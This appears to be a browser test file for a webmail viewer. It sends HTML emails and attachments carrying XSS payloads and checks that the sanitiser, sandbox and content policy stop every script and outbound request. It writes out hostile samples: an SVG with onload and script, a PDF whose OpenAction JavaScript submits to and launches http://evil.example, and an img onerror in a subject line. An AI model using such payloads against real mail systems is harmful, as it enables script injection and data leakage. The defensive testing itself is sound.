// HTML that tries everything: no script runs, and no request leaves while remote content is blocked.
import { base, browse, check, sendRaw, until } from "./browser.mjs";
import { payloads } from "./payloads.mjs";

const evil = "http://evil.example";
// The one load that the policy of a frame allows: a picture of ours. So it would be seen.
const run = `new Image().src='${base}/ran'`;
const all = payloads(evil, run);
check(all.length >= 110, `${all.length} payloads`);

const message = (subject, type, body) =>
  `From: ann@example.org\r\nTo: bob@example.org\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n` +
  `Content-Type: ${type}\r\n\r\n${body}\r\n`;
const found = async (q) => {
  const answer = await fetch(`${base}/api/messages?limit=200&wait=10&q=${encodeURIComponent(q)}`);
  return (await answer.json()).messages;
};

await browse({}, async (page, seen, context) => {
  const ran = [];
  page.on("request", (request) => { if (request.url().includes("/ran")) ran.push(request.url()); });
  const nothing = (when) => {
    check(ran.length === 0, `script ran, ${when}`);
    check(seen.dialogs.length === 0, `dialogs opened, ${when}: ${seen.dialogs}`);
  };
  const silent = (when) => {
    nothing(when);
    check(seen.foreign.length === 0, `requests left, ${when}: ${seen.foreign.join(", ")}`);
  };
  // All at once in frames like ours; resolves when each has loaded.
  const frames = (urls, sandbox = "allow-popups allow-popups-to-escape-sandbox", width = 300) => page.evaluate(async ([urls, sandbox, width]) => {
    document.body.replaceChildren();
    await Promise.all(urls.map((url) => new Promise((loaded) => {
      const frame = document.createElement("iframe");
      if (sandbox !== null) frame.setAttribute("sandbox", sandbox);
      frame.width = width;
      frame.onload = loaded;
      frame.src = url;
      document.body.append(frame);
    })));
  }, [urls, sandbox, width]);

  await Promise.all(all.map((payload, number) =>
    sendRaw(message(`payload ${number}`, "text/html; charset=utf-8", `<p>visible ${number}</p>${payload}`))));
  const hostile = [];
  for (const { id, subject } of await found("subject:payload")) hostile[Number(subject.split(" ")[1])] = id;
  check(hostile.length === all.length && !hostile.includes(undefined), "all have arrived");

  // As shown.
  await page.goto(`${base}/help`);
  await frames(hostile.map((id) => `/messages/${id}/frame`));
  await page.waitForTimeout(300);
  silent("shown in frames");
  check(page.frames().length === hostile.length + 1, `${page.frames().length} frames: none made others`);
  for (const frame of page.frames().slice(1)) {
    await until(`${frame.url()} shows its text`, async () => /visible \d+/.test(await frame.locator("body").innerText()));
  }
  for (const scheme of ["dark", "forced"]) {
    await frames(hostile.map((id) => `/messages/${id}/frame?scheme=${scheme}`), undefined, 1024);
    silent(`in colours that are ${scheme}`);
  }

  // The policy alone holds, too: the same frames without the sanitiser.
  await page.route(/\/frame\?bare/, async (route) => {
    const url = new URL(route.request().url());
    const number = Number(url.searchParams.get("bare"));
    // The mark is ours: the server refuses what it does not know.
    url.searchParams.delete("bare");
    const answer = await route.fetch({ url: url.href });
    check(answer.status() === 200, `${url}: ${answer.status()}`);
    await route.fulfill({ response: answer, body: `<!doctype html><p>bare</p>${all[number]}` });
  });
  await frames(all.map((_, number) => `/messages/${hostile[0]}/frame?bare=${number}`));
  await page.waitForTimeout(500);
  silent("with the policy alone");

  // And so does the sanitiser: the same frames without sandbox and policy, where scripts could run.
  const openly = (url) => `${url}${url.includes("?") ? "&" : "?"}fence=none`;
  await page.route(/fence=none/, async (route) => {
    const url = new URL(route.request().url());
    url.searchParams.delete("fence");
    const answer = await route.fetch({ url: url.href });
    check(answer.status() === 200, `${url}: ${answer.status()}`);
    await route.fulfill({ status: answer.status(), contentType: "text/html; charset=utf-8", body: await answer.body() });
  });
  await frames(["data:text/html,none", ...hostile.map((id) => openly(`/messages/${id}/frame`))], null);
  await page.waitForTimeout(500);
  silent("with the sanitiser alone");
  for (const frame of page.frames().slice(2)) {
    // What would have to be touched is touched: nothing of it was left to run.
    await frame.evaluate(() => {
      for (const element of document.querySelectorAll("*")) {
        for (const type of ["click", "mouseover", "focus", "error", "load", "toggle"]) {
          // A link would lead away, and is looked at below.
          if (!element.closest("a, area") && type !== "click") element.dispatchEvent(new Event(type, { bubbles: true }));
        }
        for (const { name } of element.attributes) if (name.startsWith("on")) throw new Error(`${name} is left`);
        if (element.tagName === "A" && /^(javascript|vbscript|data|blob):/i.test(element.href)) throw new Error(`${element.href} is left`);
      }
      for (const form of document.forms) form.requestSubmit();
    });
  }
  await page.waitForTimeout(300);
  silent("with the sanitiser alone, touched");
  check(page.frames().length === hostile.length + 2, "no form has led a frame away");

  // With remote content allowed pictures, style sheets and fonts come, and still no script runs.
  const kinds = new Set();
  // A mask or a filter is a drawing: to a browser neither a picture nor a page.
  const isDrawing = (url) => /\/(mask|filter|fill|svgmask|svgfilter|svgfill|shape)(#.*)?$/.test(url);
  const remember = (request) => { if (request.url().startsWith(evil) && !isDrawing(request.url())) kinds.add(request.resourceType()); };
  page.on("request", remember);
  for (const [sandbox, url] of [[undefined, (url) => url], [null, openly]]) {
    await frames(hostile.map((id) => url(`/messages/${id}/frame?remote=1`)), sandbox);
    await page.waitForTimeout(300);
    nothing("with remote content");
    check(seen.foreign.some((url) => url.endsWith("/pixel.gif")), "asked for, pictures are loaded");
    check(seen.foreign.some((url) => url.endsWith("/sheet.css")) && seen.foreign.some((url) => url.endsWith("/import.css")), "and style sheets");
    const acting = seen.foreign.filter((url) => /\.js$|refresh|form|ping|frame|object|embed|video|film|audio|track|prefetch|preload|icon|manifest|use|alternate|less/.test(url));
    check(acting.length === 0, `nothing else is: ${acting}`);
    seen.foreign.length = 0;
  }
  check([...kinds].every((kind) => ["image", "stylesheet", "font"].includes(kind)), `what is loaded: ${[...kinds]}`);
  page.off("request", remember);

  // Our own page around them stays ours, in every view.
  const closing = all.findIndex((payload) => payload.includes("outside?"));
  const over = all.findIndex((payload) => payload.includes("over everything"));
  for (const number of [closing, over]) {
    const id = hostile[number];
    for (const tab of ["html", "text", "markup", "links", "print"]) {
      await page.goto(`${base}/messages/${id}/${tab}`);
      check(tab === "print" || (await page.locator("main > article.message h1").innerText()) === `payload ${number}`, `${tab} of ${number} is ours`);
    }
    silent(`in the views of ${number}`);
  }
  // Links open elsewhere or not at all: the page that shows the mail cannot be taken away.
  const leaving = hostile[all.findIndex((payload) => payload.includes("id=top>"))];
  await page.goto(`${base}/messages/${leaving}/html`);
  const popup = context.waitForEvent("page");
  await page.frameLocator("iframe").locator("#top").click();
  await (await popup).close();
  check(page.url() === `${base}/messages/${leaving}/html`, "a link with target=_top opens a page of its own");
  seen.foreign.length = 0;

  // A link to a place in the message goes there, and nowhere else.
  const within = hostile[all.findIndex((payload) => payload.includes("id=within"))];
  await page.goto(`${base}/messages/${within}/html`);
  await page.frameLocator("iframe").locator("#within").click();
  await page.frameLocator("iframe").locator("#place").waitFor();
  const inView = await page.frameLocator("iframe").locator("#place").evaluate((it) => it.getBoundingClientRect().top < innerHeight);
  check(inView && context.pages().length === 1, "a link within scrolls within");
  silent("after a link within");

  // What is attached is no better.
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${evil}/svg"/><rect width="9" height="9"/></svg>`;
  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('${evil}/pdf'\\);app.launchURL\\('${evil}/launch'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>`;
  const part = (type, name, body) => `--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${body}\r\n`;
  await sendRaw(message(`attached <img src=x onerror="${run}">`, "multipart/mixed; boundary=b",
    `--b\r\nContent-Type: text/plain\r\n\r\njavascript:${run} <script>${run}</script> http://x.example/"onmouseover="${run}\r\n` +
    part("image/svg+xml", "a.svg", svg) + part("text/html", `<img src=x onerror=${run}>.html`, `<script>${run}</script><p>visible</p>`) +
    part("application/xhtml+xml", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${run}</script>visible</body></html>`) +
    part("application/pdf", "a.pdf", pdf) + part("text/xml", "a.xml", `<?xml-stylesheet href="${evil}/xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${run}</h:script></a>`) +
    part("message/rfc822", "a.eml", message("inner", "text/html", `<script>${run}</script><img src="${evil}/inner"><p>visible</p>`)) + "--b--"));
  const [{ id: attached }] = await found("subject:attached");
  for (const tab of ["/text", "/parts", "/headers", ...[2, 3, 4, 5, 6, 7].map((number) => `/parts/${number}/view`)]) {
    await page.goto(`${base}/messages/${attached}${tab}`);
    if (tab === "/parts/5/view") await page.getByText("This document may run script").waitFor();
  }
  await page.waitForTimeout(200);
  silent("in attachments");
  check(seen.errors.length === 0, `no script of ours failed: ${seen.errors}`);
});
